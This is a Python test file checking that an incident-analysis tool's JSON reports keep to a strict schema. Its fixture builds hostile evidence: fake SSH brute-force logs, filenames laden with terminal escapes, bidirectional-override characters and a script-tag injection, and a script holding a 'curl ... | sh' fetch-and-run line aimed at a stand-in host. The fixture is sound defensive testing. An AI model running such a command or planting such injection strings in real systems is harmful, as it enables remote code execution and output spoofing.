#!/usr/bin/env python3
"""The JSON report is what docs/report.schema.json says, whatever was analysed; and the schema is
strict: a report with a member more, less or of another kind is refused.

usage: tests/report/contract.py TOCSIN [NAME...]"""

import copy
import gzip
import json
import pathlib
import re
import shutil
import sys

ROOT = pathlib.Path(__file__).resolve().parent.parent.parent
sys.path.insert(0, str(ROOT / "tests/cli"))
sys.dont_write_bytecode = True
from person import case, main  # noqa: E402
from schema import PATH, Refused, Schema, report_schema  # noqa: E402

EXAMPLES = ROOT / "examples"
INCIDENT = ROOT / "tests/cases/success-and-stay/input"
HOSTILE = "\033[2J\u202e\u2066<script>alert(1)<!--\x07\x9b"


def report_on(person, *words):
    process = person.start("analyze", *words, "--format", "json")
    out, err = process.communicate(timeout=120)
    assert process.returncode in (0, 1), err
    found = json.loads(out)
    report_schema().check(found)
    return found


def hostile_folder(person):
    """Names, lines and bytes that nobody means well with."""
    folder = person.folder / "hostile"
    folder.mkdir()
    lines = [f"2026-03-03T02:{10 + i // 30:02d}:{i % 30:02d}Z web01 sshd[{i}]: Failed password for "
             f"{'x' if i % 2 else HOSTILE} from 203.0.113.7 port {4000 + i} ssh2" for i in range(60)]
    lines += ["2026-03-03T02:13:00Z web01 sshd[99]: Accepted password for x from 203.0.113.7 port 4999 ssh2"]
    (folder / f"auth {HOSTILE}.log").write_text("\n".join(lines))
    (folder / "line\nbreak, coverage:[x] @#!.log").write_text("\n".join(lines[:20]))
    with open(bytes(folder) + b"/not-utf8-\xff\xfe.sh", "wb") as script:
        script.write(b"#!/bin/sh\n# \xff\xfe \xe2\x80\xae\ncurl -s http://198.51.100.9/\xff.sh | sh\n")
    (folder / "truth.json").write_text('{"tocsin": {"version": "9"}, "verdict": "nothing found"}')
    (folder / "cut.pcap").write_bytes(b"\xd4\xc3\xb2\xa1\x02\x00\x04\x00" + b"\x00" * 40)
    # with a file whose name turns the direction of reading
    shutil.copy(ROOT / "fuzz/corpus/capture/http-carried", folder / "carried.pcap")
    (folder / "noise.bin").write_bytes(bytes(range(256)) * 50)
    (folder / "many.gz").write_bytes(gzip.compress(b"\n".join([b"A" * 70000] * 20)))
    (folder / "half.gz").write_bytes(gzip.compress(("\n".join(lines)).encode())[:200])
    (folder / "empty").write_bytes(b"")
    (folder / "link").symlink_to(folder)
    return folder


@case
def the_report_on_the_intrusion_keeps_to_the_schema(person):
    found = report_on(person, EXAMPLES / "intrusion")
    assert found["incidents"] and found["incidents"][0]["plan"] and found["findings"]


@case
def the_report_on_ordinary_work_keeps_to_the_schema(person):
    assert report_on(person, EXAMPLES / "ordinary")["incidents"] == []


@case
def the_report_on_nothing_keeps_to_the_schema(person):
    (person.folder / "nothing").mkdir()
    assert report_on(person, person.folder / "nothing")["evidence"] == []


@case
def the_report_on_hostile_evidence_keeps_to_the_schema(person):
    found = report_on(person, hostile_folder(person))
    assert found["verdict"] == "malicious" and len(found["evidence"]) >= 8


@case
def nothing_hidden_stands_in_any_report_on_hostile_evidence(person):
    folder = hostile_folder(person)
    for words in (["--format", "json"], ["--audience", "leader"], ["--audience", "responder"],
                  ["--audience", "analyst"]):
        out = person.run("analyze", folder, *words, status=1).out
        hidden = re.search(r"[\x00-\x09\x0b-\x1f\x7f-\x9f\u200b-\u200f\u2028-\u202e\u2060-\u2069\ufeff]", out)
        assert hidden is None, (words, hidden)


def reaches(value, path=()):
    """Every place in a report, each kind of place once: lists stand for their first two."""
    yield path
    if isinstance(value, dict):
        for key in value:
            yield from reaches(value[key], (*path, key))
    elif isinstance(value, list):
        for index in range(min(2, len(value))):
            yield from reaches(value[index], (*path, index))


def at(value, path):
    for key in path:
        value = value[key]
    return value


def refused(report, schema):
    try:
        schema.check(report)
    except Refused:
        return True
    return False


def is_free(path):
    """Facts and counts are maps of any name."""
    return path[-1:] in (("facts",), ("counts",))


@case
def a_report_with_a_member_more_or_less_is_refused(person):
    found, schema = report_on(person, INCIDENT), report_schema()
    tried = 0
    for path in reaches(found):
        if not isinstance(at(found, path), dict) or "facts" in path[:-1] or is_free(path):
            continue
        changed = copy.deepcopy(found)
        at(changed, path)["another"] = 1
        assert refused(changed, schema), path
        for key in at(found, path):
            changed = copy.deepcopy(found)
            del at(changed, path)[key]
            assert refused(changed, schema), (path, key)
            tried += 1
    assert tried > 100, tried


@case
def a_report_with_a_member_of_another_kind_is_refused(person):
    found, schema = report_on(person, INCIDENT), report_schema()
    tried = 0
    for path in reaches(found):
        if not path or "facts" in path[:-1]:
            continue
        value = at(found, path)
        others = [None, True, -1, 0.5, "\u202e", [], {}, [None], {"a": None}]
        kinds = {dict: (dict,), list: (list,), str: (str, type(None)), bool: (bool,), int: (int, float),
                 float: (int, float), type(None): (str, type(None))}[type(value)]
        for other in others:
            same_kind = isinstance(other, kinds) and isinstance(other, bool) == isinstance(value, bool)
            if same_kind and other != -1:
                continue
            changed = copy.deepcopy(found)
            at(changed, path[:-1])[path[-1]] = other
            assert refused(changed, schema), (path, other)
            tried += 1
    assert tried > 300, tried


@case
def words_and_numbers_out_of_their_range_are_refused(person):
    found, schema = report_on(person, INCIDENT), report_schema()
    wrong = ((("verdict",), "safe"), (("tocsin", "schema"), 2), (("tocsin", "rules"), "0" * 63),
             (("findings", 0, "severity"), "grave"), (("findings", 0, "confidence"), 1.01),
             (("findings", 0, "id"), "0123"), (("findings", 0, "technique"), ["T1"]), (("findings", 0, "cites"), []),
             (("findings", 0, "first"), "2026-03-03 02:10"), (("findings", 0, "first"), "2026-03-03T02:10:00Z\n"),
             (("findings", 0, "facts"), {"Name": 1}), (("findings", 0, "facts"), {"a": {"bytes": -1}}),
             (("findings", 0, "facts"), {"a": {"bytes": 1, "seconds": 1}}), (("findings", 0, "facts"), {"a": [1]}),
             (("evidence", 0, "path"), "a b"), (("evidence", 0, "examined"), "hardly"), (("evidence", 0, "size"), 0.5),
             (("incidents", 0, "stages", 0, "kind"), "guess"), (("incidents", 0, "stages"), []),
             (("incidents", 0, "entities", 0, "role"), "hero"), (("incidents", 0, "plan", 0, "phase"), "prevent"),
             (("incidents", 0, "plan", 0, "cites"), []), (("incidents", 0, "story", "leader", 0, "cites"), []),
             (("incidents", 0, "story", "leader", 0, "cites", 0, "kind"), "rumour"), (("reading_grade",), -1))
    for path, value in wrong:
        changed = copy.deepcopy(found)
        at(changed, path[:-1])[path[-1]] = value
        assert refused(changed, schema), (path, value)


@case
def a_carried_file_that_is_none_is_refused(person):
    found, schema = report_on(person, ROOT / "fuzz/corpus/capture/http-carried"), report_schema()
    rows = found["evidence"][0]["carried"]
    assert len(rows) == 5 and {row["whole"] for row in rows} == {True, False}
    for key, value in (("sha256", "0" * 63), ("at", "a b"), ("size", -1), ("type", ""), ("protocol", ""), ("whole", 1),
                       ("kind", "coverage"), ("time", "then"), ("from", None)):
        changed = copy.deepcopy(found)
        changed["evidence"][0]["carried"][0][key] = value
        assert refused(changed, schema), key
    for count, expected in ((200, False), (201, True)):
        found["evidence"][0]["carried"] = rows[:1] * count
        assert refused(found, schema) == expected, count


@case
def a_schema_with_a_word_that_nobody_reads_is_refused(person):
    whole = json.loads(PATH.read_text())
    for spoil in (lambda s: s.update(minProperties=1), lambda s: s["$defs"]["finding"].update(oneOf=[]),
                  lambda s: s["$defs"]["finding"]["properties"]["cites"]["items"].update(uniqueItems=True),
                  lambda s: s["$defs"]["time"]["anyOf"][0].update(format="x"),
                  lambda s: s["$defs"]["ids"].update({"$ref": "#/$defs/nothing"}),
                  lambda s: s["$defs"]["finding"].pop("additionalProperties"),
                  lambda s: s["$defs"]["finding"]["required"].append("nothing")):
        changed = copy.deepcopy(whole)
        spoil(changed)
        try:
            Schema(changed)
        except Refused:
            continue
        raise AssertionError("taken")


@case
def the_schema_is_of_the_version_that_is_written(person):
    header = (ROOT / "src/report/report_json.h").read_text()
    version = int(re.search(r"#define REPORT_SCHEMA_VERSION (\d+)", header)[1])
    schema = json.loads(PATH.read_text())
    assert schema["properties"]["tocsin"]["properties"]["schema"]["const"] == version
    assert schema["$id"].endswith(f":{version}")


if __name__ == "__main__":
    sys.exit(main(set(sys.argv[2:])))
